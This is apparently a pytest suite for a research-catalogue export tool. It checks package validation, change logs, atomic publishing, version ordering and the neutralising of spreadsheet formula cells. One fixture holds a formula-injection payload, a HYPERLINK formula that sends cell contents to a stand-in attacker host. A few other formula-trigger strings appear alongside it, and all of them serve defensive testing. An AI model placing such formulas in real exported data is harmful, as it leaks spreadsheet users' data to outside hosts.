"""`copdir export`: the research data package validates against its own datapackage.json, its change log says what
was added, removed and changed, spreadsheets cannot run its cells as formulas, and a failed export publishes nothing."""
from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path

import click
import pytest
import sqlite_utils
from click.testing import CliRunner
from frictionless import validate

from catalogue import export, store
from catalogue.build import build_catalogue
from catalogue.export import ExportError, csv_cell, existing_versions, export_catalogue, version_of
from catalogue.schema import open_working_db
from conftest import REPO
from crawler.cli import export_command, stages
from crawler.models import CheckOutcome, CheckResult
from crawler.urls import canonicalize, community_id

NOW = datetime(2026, 11, 20, 6, tzinfo=timezone.utc)
METADATA = REPO / "datasette_metadata.yml"
FORUM, CHAT, GONE, NEW = ("https://forum.example.org/", "https://discord.gg/devcord", "https://gone.example/",
                          "https://new.example/")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
TRAP = "https://trap.example/"


def cid(url: str) -> str:
    return community_id(canonicalize(url))


def _checks(db, url: str, outcomes: list[CheckOutcome], start: datetime) -> None:
    store.record_checks(db, [(cid(url), CheckResult(url, start + timedelta(hours=i), outcome, detail=outcome.value))
                             for i, outcome in enumerate(outcomes)], run_id=1)


def _remove(db, url: str) -> None:
    """Take a community out of the working DB altogether, as a dedupe merge or a delisting would."""
    for table in db.table_names():
        if "community_id" in db[table].columns_dict:
            db.execute(f"delete from [{table}] where community_id = ?", [cid(url)])
    db.execute("delete from communities where id = ?", [cid(url)])
    db.conn.commit()


@pytest.fixture
def world(tmp_path):
    """A working DB with four listed communities (one named like a spreadsheet formula), its catalogue, and an
    export folder; `next_day()` then kills the chat's invite, removes one community, lists a new one, rebuilds."""
    db = open_working_db(tmp_path / "copdir.db")
    catalogue = tmp_path / "catalogue.db"
    store.record_sources(db, [{"name": "list-a", "url": "https://a.example/list.md", "kind": "markdown"}])
    store.ingest_observations(db, [
        {"source": "list-a", "url": FORUM, "name": "The Forum", "platform": "forum", "section": "Python"},
        {"source": "list-a", "url": CHAT, "name": "Devcord", "platform": "discord", "section": "-3 dB club"},
        {"source": "list-a", "url": GONE, "name": "Gone Club", "platform": "website"},
        {"source": "list-a", "url": TRAP, "name": FORMULA, "platform": "website", "section": "@everyone"},
    ], run_id=1, now=NOW - timedelta(days=30))
    for url in (FORUM, CHAT, GONE, TRAP):
        _checks(db, url, [CheckOutcome.OK] * 3, NOW - timedelta(days=2))
    stages.score_all(db, NOW)
    build_catalogue(db, catalogue, NOW)

    def next_day() -> None:
        later = NOW + timedelta(days=1)
        _checks(db, CHAT, [CheckOutcome.INVITE_EXPIRED], later - timedelta(hours=1))
        _remove(db, GONE)
        store.ingest_observations(db, [{"source": "list-a", "url": NEW, "name": "New Guild", "platform": "website"}],
                                  run_id=2, now=later)
        stages.score_all(db, later)
        build_catalogue(db, catalogue, later, max_drop=1.0)

    yield catalogue, tmp_path / "exports", next_day
    db.close()


def _export(catalogue: Path, out: Path, now: datetime):
    return export_catalogue(catalogue, out, now, METADATA)


def _csv(folder: Path, name: str) -> list[dict]:
    with open(folder / f"{name}.csv", newline="", encoding="utf-8") as rows:
        return list(csv.DictReader(rows))


def _jsonl(folder: Path, name: str) -> list[dict]:
    return [json.loads(line) for line in (folder / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()]


def _assert_valid(folder: Path) -> dict:
    """The package validates (frictionless), and, checked independently of it: every cell parses as its declared
    type, primary keys are unique, foreign keys resolve. Returns the descriptor."""
    report = validate(folder / "datapackage.json")
    assert report.valid, report.flatten(["resourceName", "type", "note"])
    package = json.loads((folder / "datapackage.json").read_text())
    parse = {"integer": int, "number": float, "string": str}
    keys = {}
    for resource in package["resources"]:
        schema = resource["schema"]
        rows = _csv(folder, resource["name"])
        header = (folder / f"{resource['name']}.csv").read_text(encoding="utf-8").splitlines()[0]
        assert header.split(",") == [field["name"] for field in schema["fields"]]
        for row in rows:
            for field in schema["fields"]:
                if row[field["name"]] != "":
                    parse[field["type"]](row[field["name"]])
        if "primaryKey" in schema:
            primary = [tuple(row[name] for name in schema["primaryKey"]) for row in rows]
            assert len(set(primary)) == len(primary), f"{resource['name']}: duplicate primary keys"
        keys[resource["name"]] = rows
    for resource in package["resources"]:
        for key in resource["schema"].get("foreignKeys", []):
            target = {row[key["reference"]["fields"][0]] for row in keys[key["reference"]["resource"]]}
            values = {row[key["fields"][0]] for row in keys[resource["name"]]} - {""}
            assert values <= target, f"{resource['name']}.{key['fields'][0]} points at missing rows"
    return package


def test_two_exports_validate_and_the_second_logs_what_was_added_removed_and_changed(world):
    catalogue, out, next_day = world
    first = _export(catalogue, out, NOW + timedelta(hours=1))
    next_day()
    second = _export(catalogue, out, NOW + timedelta(days=1, hours=1))

    package = _assert_valid(first.path)
    _assert_valid(second.path)
    resources = {resource["name"]: resource for resource in package["resources"]}
    # Every public table of the catalogue and the change log; no FTS or build table, nothing from the working DB.
    published = {name for name in sqlite_utils.Database(catalogue).table_names()
                 if not name.startswith("communities_fts") and name != "build"}
    assert {"communities", "listings", "status_history", "sources", "evidence"} <= published
    assert set(resources) == published | {"changes"}
    communities = resources["communities"]["schema"]
    assert communities["primaryKey"] == ["id"]
    assert {"fields": ["community_id"], "reference": {"resource": "communities", "fields": ["id"]}} in \
        resources["listings"]["schema"]["foreignKeys"]
    fields = {field["name"]: field for field in communities["fields"]}
    assert fields["checks"]["type"] == "integer"
    assert fields["id"]["description"].startswith("Stable id")  # the column docs of datasette_metadata.yml
    assert package["licenses"][0]["name"] == "CC-BY-4.0" and package["version"] == "2026-11-20T070000Z"
    assert package["sources"] == [{"title": "list-a", "path": "https://a.example/list.md"}]

    assert {(row["community_id"], row["change"]) for row in _jsonl(first.path, "changes")} == \
        {(cid(url), "added") for url in (FORUM, CHAT, GONE, TRAP)}
    changes = {row["community_id"]: row for row in _jsonl(second.path, "changes")}
    assert {key: row["change"] for key, row in changes.items()} == {
        cid(CHAT): "status_changed", cid(GONE): "removed", cid(NEW): "added"}
    chat = changes[cid(CHAT)]
    assert (chat["reachability_before"], chat["reachability_after"]) == ("live", "dead")
    assert changes[cid(GONE)]["name"] == "Gone Club"
    assert (second.previous_version, second.changes) == \
        (first.version, {"status_changed": 1, "removed": 1, "added": 1})
    # The full status history travels: the chat's first status and its death.
    history = [row for row in _jsonl(second.path, "status_history") if row["community_id"] == cid(CHAT)]
    assert [row["reachability"] for row in history] == ["live", "dead"]
    assert (out / "latest").read_text().strip() == second.version


def test_formula_cells_are_neutralised_in_csv_and_intact_in_json_lines(world):
    catalogue, out, _ = world
    folder = _export(catalogue, out, NOW + timedelta(hours=1)).path
    trap_csv = next(row for row in _csv(folder, "communities") if row["id"] == cid(TRAP))
    trap_json = next(row for row in _jsonl(folder, "communities") if row["id"] == cid(TRAP))
    assert trap_csv["name"] == "'" + FORMULA and trap_json["name"] == FORMULA
    assert trap_csv["sections"] == "'@everyone" and trap_json["sections"] == "@everyone"
    assert trap_csv["checks"] == "3" and trap_json["checks"] == 3  # numbers stay numbers
    listing = next(row for row in _csv(folder, "listings") if row["community_id"] == cid(CHAT))
    assert listing["section"] == "'-3 dB club"
    assert next(row for row in _csv(folder, "changes") if row["community_id"] == cid(TRAP))["name"] == "'" + FORMULA


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+44 20 7946", "'+44 20 7946"), ("-3", "'-3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("Python =)", "Python =)"), ("", ""),
    (-3, -3), (1, 1), (-2.5, -2.5), (None, ""),
])
def test_only_text_that_a_spreadsheet_would_run_gets_an_apostrophe(value, cell):
    assert csv_cell(value) == cell


def test_a_failed_export_leaves_latest_at_the_previous_version_and_no_half_version(world, monkeypatch):
    catalogue, out, next_day = world
    first = _export(catalogue, out, NOW + timedelta(hours=1))
    next_day()
    write_rows = export._write_rows

    def dies_midway(rows, names, folder, stem):
        if stem == "status_history":
            raise KeyboardInterrupt  # as a Ctrl-C would, half-way through the tables
        return write_rows(rows, names, folder, stem)

    monkeypatch.setattr(export, "_write_rows", dies_midway)
    with pytest.raises(KeyboardInterrupt):
        _export(catalogue, out, NOW + timedelta(days=1, hours=1))
    assert (out / "latest").read_text().strip() == first.version
    assert existing_versions(out) == [first.version]
    assert sorted(entry.name for entry in out.iterdir()) == [first.version, "latest"]

    # A kill -9 cannot clean up: its hidden work folder is ignored and cleared by the next export.
    (out / ".partial-2026-11-21T060000Z-x").mkdir()
    monkeypatch.setattr(export, "_write_rows", write_rows)
    second = _export(catalogue, out, NOW + timedelta(days=1, hours=1))
    assert sorted(entry.name for entry in out.iterdir()) == [first.version, second.version, "latest"]
    assert second.previous_version == first.version


def test_versions_sort_in_time_order_and_an_export_back_in_time_is_refused(world):
    catalogue, out, _ = world
    moments = [datetime(2026, 11, 20, 23, 59, 59, tzinfo=timezone.utc),
               datetime(2026, 11, 21, 6, tzinfo=timezone(timedelta(hours=5))),  # 01:00 UTC
               datetime(2026, 11, 21, 1, 0, 1, tzinfo=timezone.utc),
               datetime(2026, 11, 20, 22, tzinfo=timezone(timedelta(hours=-8))),  # 06:00 UTC next day
               datetime(2026, 12, 1, tzinfo=timezone.utc)]
    made = [_export(catalogue, out, moment).version for moment in moments]
    assert made == sorted(made) == existing_versions(out)
    assert made[1] == "2026-11-21T010000Z"
    with pytest.raises(ExportError, match="time order"):
        _export(catalogue, out, moments[2])
    assert (out / "latest").read_text().strip() == made[-1]
    assert version_of(datetime(2026, 11, 21, 6)) == "2026-11-21T060000Z"  # a naive time is UTC


def _cli() -> click.Group:
    group = click.Group()
    export_command.register(group)
    return group


def test_the_command_prints_one_summary_line_and_explains_a_missing_catalogue(world):
    catalogue, out, _ = world
    runner = CliRunner()
    args = ["export", "--catalogue", str(catalogue), "--out", str(out), "--metadata", str(METADATA)]
    result = runner.invoke(_cli(), args, obj={"now": NOW + timedelta(hours=1)})
    assert result.exit_code == 0, result.output
    assert result.output.startswith("export: 2026-11-20T070000Z — 4 communities in ")
    assert "; 4 added, 0 removed, 0 status changes → " in result.output and len(result.output.splitlines()) == 1
    assert "Example:" in _cli().commands["export"].help

    missing = runner.invoke(_cli(), ["export", "--catalogue", str(out / "nope.db"), "--out", str(out)],
                            obj={"now": NOW + timedelta(hours=2)})
    assert missing.exit_code == 1 and "copdir build" in missing.output
    assert existing_versions(out) == ["2026-11-20T070000Z"]


def test_a_damaged_previous_export_is_a_clear_error_and_publishes_nothing(world):
    catalogue, out, _ = world
    first = _export(catalogue, out, NOW + timedelta(hours=1))
    (first.path / "communities.jsonl").write_text('{"id": "a"}\nnot json\n')
    with pytest.raises(ExportError, match="damaged at line 2"):
        _export(catalogue, out, NOW + timedelta(hours=2))
    assert existing_versions(out) == [first.version] and (out / "latest").read_text().strip() == first.version
